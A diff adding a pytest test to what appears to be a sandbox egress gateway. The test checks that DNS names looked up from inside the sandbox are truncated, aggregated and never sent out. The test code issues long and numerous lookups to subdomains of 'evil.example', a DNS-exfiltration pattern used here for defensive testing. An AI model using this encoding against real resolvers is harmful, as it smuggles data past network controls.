@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from egress.nameserver import MAX_HELD, MAX_NAME_KEPT, OTHER_NAMES
 from egress.passing import receive_packet, send_packet
 from gateway.runtime.egress_link import DoorTicket
 from observability.events import Decision, EgressEvent, Reason, Via
@@ -120,6 +121,21 @@ async def test_what_is_no_registration_harms_nobody() -> None:
                 sock.connect(str(path))
                 sock.send(packet)
         assert (await running.inside("one", "print(http('web.example')[-5:])")) == "hello"
+
+
+async def test_what_is_kept_of_names_that_are_looked_up_is_bounded() -> None:
+    """A name is a message: its length is cut, very many become one, and none of it leaves."""
+    code = """
+lookup(".".join(letter * 60 for letter in "abc") + ".evil.example")
+print({lookup(f"n{number}.evil.example")[0] for number in range(400)})
+"""
+    async with site({"fetch": {"allowed_hosts": ["web.example"], "limits": {"dns_rate": 2000}}}) as running:
+        await running.start_door("fetch")
+        assert await running.inside("fetch", code) == "{3}"
+        event = await running.event(lambda event: event.host.startswith("a" * 60))
+        assert (event.reason, len(event.host)) == (Reason.DIRECT_ATTEMPT, MAX_NAME_KEPT + 1)
+        rest = await running.event(lambda event: event.host == OTHER_NAMES)
+        assert rest.count >= 400 - MAX_HELD
 
 
 HORDE = """
